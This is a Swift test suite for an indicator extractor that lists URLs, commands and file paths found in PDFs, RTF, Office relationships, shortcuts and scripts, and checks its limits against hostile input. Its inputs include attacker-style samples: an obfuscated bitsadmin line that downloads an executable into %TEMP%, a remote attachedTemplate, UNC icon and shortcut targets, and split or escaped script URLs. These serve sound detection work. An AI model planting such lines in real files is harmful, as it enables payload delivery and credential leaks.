import Foundation
import SpearCore
@testable import SpearIndicators
import Testing

/// The generated fixtures of Tests/Fixtures/iocs (make_ioc_fixtures.py) and what each must give, from expected.json.
@Suite("What files point at: PDF, RTF, OOXML relationships, shortcuts, .url/.desktop, scripts; bounds and hostile input")
struct FileIndicatorReaderTests {
    static let folder = URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent()
        .appendingPathComponent("Fixtures/iocs")
    let reader = FileIndicatorReader()

    static func fixture(_ name: String) throws -> [UInt8] {
        [UInt8](try Data(contentsOf: folder.appendingPathComponent(name)))
    }

    /// The values expected.json lists for a file: urls, commands, and file names with paths (one kind here).
    static func expected(_ name: String) throws -> (urls: Set<String>, commands: Set<String>, files: Set<String>) {
        let json = try JSONSerialization.jsonObject(with: try Data(contentsOf: folder.appendingPathComponent("expected.json")))
        let entry = try #require((json as? [String: Any])?[name] as? [String: [String]])
        return (Set(entry["url"] ?? []), Set(entry["command"] ?? []), Set((entry["filename"] ?? []) + (entry["path"] ?? [])))
    }

    private func values(_ s: FileSightings?, _ kind: FileSighting.Kind) -> Set<String> {
        Set((s?.items ?? []).filter { $0.kind == kind }.map(\.value))
    }

    @Test("Each fixture gives exactly the URLs, commands and file names it holds", arguments: [
        ("links.pdf", Category.pdf), ("links.rtf", .rtf), ("run.lnk", .shortcut), ("shortcut.url", .text),
        ("launcher.desktop", .text), ("link.desktop", .text), ("concat.js", .script), ("concat.vbs", .script),
        ("concat.ps1", .script), ("fetch.bat", .script),
    ])
    func fixture(_ name: String, _ category: Category) throws {
        let found = reader.read(try Self.fixture(name), category: category, filename: name)
        let want = try Self.expected(name)
        #expect(values(found, .url) == want.urls)
        #expect(values(found, .command) == want.commands)
        #expect(values(found, .filename) == want.files)
        #expect(found?.cut == false)
    }

    @Test("A PDF's object stream is inflated for its /URI, and each sighting says which part of the file it is")
    func pdfParts() throws {
        let found = try #require(reader.read(try Self.fixture("links.pdf"), category: .pdf, filename: nil))
        let parts = Dictionary(found.items.map { ($0.value, $0.part) }, uniquingKeysWith: { a, _ in a })
        #expect(parts["https://objstm.example.net/doc?id=7"] == "/URI action")
        #expect(parts["cmd.exe /c echo harmless"] == "/Launch action")
        #expect(parts["http://js.example.com/x"] == "/JS JavaScript")
        #expect(parts["invoice.js"] == "embedded file")
        // Without inflating, the object stream's URI is not seen: the bound is what decides.
        let none = try #require(FileIndicatorReader(inflatedBytes: 0).read(try Self.fixture("links.pdf"), category: .pdf, filename: nil))
        #expect(!none.items.contains { $0.value.contains("objstm") })
    }

    @Test("A shortcut's command line names its working directory; URLs in its arguments are listed")
    func shortcut() throws {
        let found = try #require(reader.read(try Self.fixture("run.lnk"), category: .shortcut, filename: "run.lnk"))
        let command = try #require(found.items.first { $0.kind == .command })
        #expect(command.part == "shortcut command line (working directory C:\\Users\\Public)")
        let link = try #require(ShellLink.parse(try Self.fixture("run.lnk")))
        #expect(link.workingDirectory == "C:\\Users\\Public")
        #expect(link.iconLocation == "C:\\Windows\\System32\\shell32.dll")
    }

    @Test("A URL spread over concatenated literals is marked obfuscated; one written whole is not")
    func concatenation() {
        let js = Array("var a = \"ht\" + 'tp://split.example.com' +\n  \"/x\"; var b = \"http://whole.example.com/y\"; // http://comment.example.com/z\n".utf8)
        let found = reader.read(js, category: .script, filename: "a.js")?.items ?? []
        let byValue = Dictionary(found.map { ($0.value, $0) }, uniquingKeysWith: { a, _ in a })
        #expect(byValue["http://split.example.com/x"]?.obfuscated == true)
        #expect(byValue["http://whole.example.com/y"]?.obfuscated == false)
        #expect(byValue["http://comment.example.com/z"]?.part == "script text")
        let vbs = Array("u = \"http://v\" & _\r\n  \".example.org/p\"\r\n' rem http://note.example.org/\r\n".utf8)
        let v = Set((reader.read(vbs, category: .script, filename: "a.vbs")?.items ?? []).map(\.value))
        #expect(v == ["http://v.example.org/p", "http://note.example.org/"])
        let bat = Array("@echo off\r\nbitsadmin /transfer j h^t^tp://caret.example.com/a.exe %TEMP%\\a.exe\r\n".utf8)
        #expect((reader.read(bat, category: .script, filename: "a.bat")?.items ?? []).map(\.value) == ["http://caret.example.com/a.exe"])
    }

    @Test("OOXML: external relationships only, entities decoded, internal targets left out")
    func relationships() throws {
        let rels = Array("""
        <?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">\
        <Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/>\
        <Relationship Id="rId2" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://x.example.com/a?b=1&amp;c=2" TargetMode="External"/>\
        <Relationship Id="rId3" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="\\\\198.51.100.3\\t\\n.dotm" TargetMode="External"/>\
        </Relationships>
        """.utf8)
        let found = try #require(reader.read([0x50, 0x4B], category: .word, filename: "a.docx",
                                             relationships: [(name: "word/_rels/settings.xml.rels", bytes: rels)]))
        #expect(found.items.map(\.value) == ["https://x.example.com/a?b=1&c=2", "\\\\198.51.100.3\\t\\n.dotm"])
        #expect(found.items.map(\.part) == ["relationship hyperlink in word/_rels/settings.xml.rels",
                                            "relationship attachedTemplate in word/_rels/settings.xml.rels"])
        #expect(found.items.map(\.kind) == [.url, .filename])
    }

    @Test("A PDF with 100,000 URI actions: the first 500 are kept and the cut is reported")
    func manyURIs() throws {
        var pdf = Array("%PDF-1.7\n".utf8)
        for k in 0..<100_000 { pdf += Array("\(k + 1) 0 obj << /Type /Annot /A << /S /URI /URI (http://u\(k).example.com/) >> >> endobj\n".utf8) }
        let found = try #require(reader.read(pdf, category: .pdf, filename: nil))
        #expect(found.items.count == 500)
        #expect(found.cut)
        #expect(found.items.first?.value == "http://u0.example.com/")
    }

    @Test("An object stream that inflates past the bound stops there, and says so")
    func inflateBound() throws {
        // A stream of 4 MiB of spaces and then a URI: the bound of 1 MiB cuts before it.
        let inner = [UInt8](repeating: 0x20, count: 4 << 20) + Array("<< /URI (http://late.example.com/) >>".utf8)
        let packed = try #require(try Self.zlib(inner))
        let pdf = Array("%PDF-1.7\n1 0 obj << /Type /ObjStm /N 1 /First 0 /Filter /FlateDecode /Length \(packed.count) >>\nstream\n".utf8)
            + packed + Array("\nendstream endobj\n".utf8)
        let found = try #require(FileIndicatorReader(inflatedBytes: 1 << 20).read(pdf, category: .pdf, filename: nil))
        #expect(found.items.isEmpty)
        #expect(found.notes.count == 1)
        #expect(FileIndicatorReader().read(pdf, category: .pdf, filename: nil)?.items.map(\.value) == ["http://late.example.com/"])
    }

    @Test("Hostile and truncated input never traps: every prefix of each fixture, deep nesting, open strings")
    func hostile() throws {
        for (name, category) in [("links.pdf", Category.pdf), ("links.rtf", .rtf), ("run.lnk", .shortcut), ("concat.vbs", .script)] {
            let bytes = try Self.fixture(name)
            for n in stride(from: 0, through: bytes.count, by: 7) { _ = reader.read(Array(bytes.prefix(n)), category: category, filename: name) }
        }
        let nested = Array("%PDF-1.7\n".utf8) + [UInt8](repeating: 0x3C, count: 400_000) + Array("(unterminated \\".utf8)
        _ = reader.read(nested, category: .pdf, filename: nil)
        let brackets = Array("%PDF-1.7\n".utf8) + Array(repeating: Array("[<< /A ".utf8), count: 50_000).flatMap { $0 }
        _ = reader.read(brackets, category: .pdf, filename: nil)
        var lnk = try Self.fixture("run.lnk")
        lnk[0x14] = 0xFF; lnk[0x15] = 0xFF  // every flag: sizes read from wherever they fall
        _ = reader.read(lnk, category: .shortcut, filename: nil)
        let rtf = Array("{\\rtf1{\\object{\\*\\objdata 01050000 02000000 ffffffff".utf8)
        _ = reader.read(rtf, category: .rtf, filename: nil)
    }

    /// zlib-compressed bytes, made with the system's python3 (the test target has no zlib of its own).
    static func zlib(_ data: [UInt8]) throws -> [UInt8]? {
        let p = Process()
        p.executableURL = URL(fileURLWithPath: "/usr/bin/python3")
        p.arguments = ["-c", "import sys,zlib; sys.stdout.buffer.write(zlib.compress(sys.stdin.buffer.read()))"]
        let input = Pipe(), output = Pipe()
        p.standardInput = input
        p.standardOutput = output
        try p.run()
        let writer = Thread { input.fileHandleForWriting.write(Data(data)); try? input.fileHandleForWriting.close() }
        writer.start()
        let out = output.fileHandleForReading.readDataToEndOfFile()
        p.waitUntilExit()
        return p.terminationStatus == 0 ? [UInt8](out) : nil
    }
}

/// What real and hostile files do that the generated fixtures do not.
@Suite("File readers: references, split fields, flags, attribute layouts")
struct FileIndicatorReaderEdgeTests {
    let reader = FileIndicatorReader()

    private func values(_ text: String, _ category: Category, _ name: String? = nil) -> [String] {
        (reader.read(Array(text.utf8), category: category, filename: name)?.items ?? []).map(\.value)
    }

    @Test("PDF: JavaScript in a compressed stream the action refers to, a /URI by reference, a stray bracket before an object stream")
    func pdfReferences() throws {
        let js = try #require(try FileIndicatorReaderTests.zlib(Array("app.launchURL('http://js-stream.example.com/p', true);".utf8)))
        let objects = try #require(try FileIndicatorReaderTests.zlib(Array("5 0 << /S /URI /URI (https://in-objstm.example.org/) >>".utf8)))
        var pdf = Array("%PDF-1.7\n1 0 obj << /S /JavaScript /JS 2 0 R >> endobj\n".utf8)
        pdf += Array("2 0 obj << /Length \(js.count) /Filter /FlateDecode >>\nstream\n".utf8) + js + Array("\nendstream\nendobj\n".utf8)
        pdf += Array("3 0 obj << /S /URI /URI 4 0 R >> endobj\n4 0 obj (http://by-reference.example.net/x) endobj\n".utf8)
        pdf += Array("6 0 obj [ << /A [ 1 endobj\n".utf8)
        pdf += Array("7 0 obj << /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode >>\nstream\n".utf8) + objects + Array("\nendstream\nendobj\n".utf8)
        pdf += Array("8 0 obj << /S /URI /URI (page2.html) >> endobj 9 0 obj << /S /URI /URI (mailto:a@example.jp) >> endobj\n".utf8)
        let found = reader.read(pdf, category: .pdf, filename: nil)?.items ?? []
        #expect(Set(found.map(\.value)) == ["http://js-stream.example.com/p", "http://by-reference.example.net/x", "https://in-objstm.example.org/"])
        #expect(found.first { $0.value.contains("js-stream") }?.part == "/JS JavaScript")
    }

    @Test("PDF: the inflating budget is the message's, shared by its files")
    func pdfBudget() throws {
        let packed = try #require(try FileIndicatorReaderTests.zlib([UInt8](repeating: 0x20, count: 600 << 10) + Array("<< /URI (http://x.example.com/) >>".utf8)))
        let pdf = Array("%PDF-1.7\n1 0 obj << /Type /ObjStm /Filter /FlateDecode >>\nstream\n".utf8) + packed + Array("\nendstream endobj".utf8)
        var budget = 1 << 20
        let first = reader.read(pdf, category: .pdf, filename: nil, relationships: [], inflateBudget: &budget)
        #expect(first?.items.map(\.value) == ["http://x.example.com/"] && budget < 512 << 10)
        let second = reader.read(pdf, category: .pdf, filename: nil, relationships: [], inflateBudget: &budget)
        #expect(second?.items.isEmpty == true && second?.notes.count == 1, "the second file finds the budget spent")
    }

    @Test("RTF: a field argument Word split over groups is joined; 20,000 fields are each read once")
    func rtfSplitField() {
        let rtf = #"{\rtf1{\field{\*\fldinst {HYPERLINK "http://exa}{\rtlch\fcs1 mple.com/pa}{th"}}{\fldrslt x}}}"#
        #expect(values(rtf, .rtf) == ["http://example.com/path"])
        // \uN escapes (and their fallback character) in an argument: an internationalised host.
        #expect(values(#"{\rtf1{\field{\*\fldinst HYPERLINK "http://\u12354?.example.jp/"}}}"#, .rtf) == ["http://あ.example.jp/"])
        let fields = String(repeating: #"{\field{\*\fldinst HYPERLINK "http://same.example.com/"}{\fldrslt x}}"#, count: 20_000)
        #expect(values("{\\rtf1 " + fields + #"{\field{\*\fldinst HYPERLINK "http://last.example.com/"}}}"#, .rtf)
                == ["http://same.example.com/", "http://last.example.com/"])
    }

    @Test("A shortcut's environment block is the target only when its flag says so (HasExpString)")
    func shellLinkEnvironmentFlag() throws {
        func link(flags: UInt32) -> [UInt8] {
            var b = [UInt8](repeating: 0, count: 0x4C)
            b[0] = 0x4C
            b.replaceSubrange(4..<20, with: ShellLink.clsid)
            withUnsafeBytes(of: flags.littleEndian) { b.replaceSubrange(0x14..<0x18, with: $0) }
            let args = Array("/c echo harmless".utf16)
            b += [UInt8(args.count), 0] + args.flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
            var block = [UInt8](repeating: 0, count: 0x314)
            block.replaceSubrange(0..<8, with: [0x14, 0x03, 0, 0, 0x01, 0x00, 0x00, 0xA0])
            let ansi = Array("%COMSPEC%".utf8)
            block.replaceSubrange(8..<(8 + ansi.count), with: ansi)
            let wide = Array("%ComSpec%".utf16).flatMap { [UInt8($0 & 0xFF), UInt8($0 >> 8)] }
            block.replaceSubrange(0x10C..<(0x10C + wide.count), with: wide)
            return b + block + [0, 0, 0, 0]
        }
        // HasArguments | IsUnicode | HasExpString: the wide target, from 0x10C.
        #expect(try #require(ShellLink.parse(link(flags: 0x2A0))).target == "%ComSpec%")
        #expect(try #require(ShellLink.parse(link(flags: 0x0A0))).target == nil)
        #expect(reader.read(link(flags: 0x2A0), category: .shortcut, filename: nil)?.items.first?.value == "%ComSpec% /c echo harmless")
    }

    @Test("OOXML: attributes on lines of their own, a prefixed element, a > inside a value; mailto is no indicator")
    func relationshipLayouts() throws {
        let rels = Array("""
        <pr:Relationships xmlns:pr="x"><pr:Relationship
        \tId="rId1"
        \tType="x/hyperlink"
        \tTarget="https://a.example.com/?q=a>b" TargetMode = "External"/>
        <Relationship Id="rId2" Type="x/hyperlink" Target="mailto:someone@example.jp" TargetMode="External"/>
        </pr:Relationships>
        """.utf8)
        let found = try #require(reader.read([], category: .excel, filename: nil, relationships: [(name: "xl/_rels/workbook.xml.rels", bytes: rels)]))
        #expect(found.items.map(\.value) == ["https://a.example.com/?q=a>b"])
    }

    @Test(".scf icons, .url targets that are paths, JScript hex escapes, VBScript inside an HTA")
    func smallFormats() {
        #expect(values("[Shell]\r\nCommand=2\r\nIconFile=\\\\198.51.100.9\\share\\x.ico\r\n[Taskbar]\r\nCommand=ToggleDesktop\r\n", .shortcut)
                == ["\\\\198.51.100.9\\share\\x.ico"])
        let url = reader.read(Array("[InternetShortcut]\r\nURL=\\\\192.0.2.1\\s\\x.exe\r\n".utf8), category: .text, filename: "a.url")?.items ?? []
        #expect(url.map(\.kind) == [.filename])
        #expect(values(#"var u = "\x68ttp://hex-escape.example.com/\u0061";"#, .script, "a.js") == ["http://hex-escape.example.com/a"])
        #expect(values("<script language=\"VBScript\">u = \"http://h\" & \"ta.example.com/\"</script>", .script, "a.hta") == ["http://hta.example.com/"])
    }
}
